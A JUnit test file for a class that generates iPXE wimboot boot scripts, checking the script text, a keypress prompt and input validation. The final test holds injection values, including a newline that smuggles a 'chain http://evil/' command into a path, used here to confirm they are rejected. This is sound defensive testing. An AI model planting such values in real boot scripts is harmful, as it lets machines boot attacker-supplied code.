package org.pxemesh.netboot.loader;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import org.junit.jupiter.api.Test;

class WimbootScriptTest {

    private static final WimbootScript SCRIPT =
            new WimbootScript("http://192.0.2.10:8069/boot/1", "tools/wimboot", "winpe@1");

    @Test
    void shouldNameStorePartitionAndImage() {
        assertThat(SCRIPT.text(false, true)).isEqualTo("""
                #!ipxe
                kernel --name wimboot http://192.0.2.10:8069/boot/1/tools/wimboot
                initrd --name bootmgr.exe http://192.0.2.10:8069/boot/1/bootmgr.exe bootmgr.exe
                initrd --name BCD http://192.0.2.10:8069/boot/1/Boot/BCD BCD
                initrd --name boot.sdi http://192.0.2.10:8069/boot/1/Boot/boot.sdi boot.sdi
                initrd --name boot.wim http://192.0.2.10:8069/boot/1/Boot/boot.wim boot.wim
                boot wimboot
                """);
    }

    @Test
    void shouldAskFirstWhenToldTo() {
        assertThat(SCRIPT.text(true, false))
                .startsWith("#!ipxe\nprompt --key p --timeout 15000 Press p to boot winpe@1 || exit 1\nkernel ")
                .doesNotContain("bootmgr.exe");
    }

    @Test
    void shouldRefuseWordsThatWouldBecomeCommands() {
        assertThatThrownBy(() -> new WimbootScript("http://x", "a\nchain http://evil/", "n"))
                .isInstanceOf(IllegalArgumentException.class);
        assertThatThrownBy(() -> new WimbootScript("http://x", "a", "${net0/mac}"))
                .isInstanceOf(IllegalArgumentException.class);
    }
}
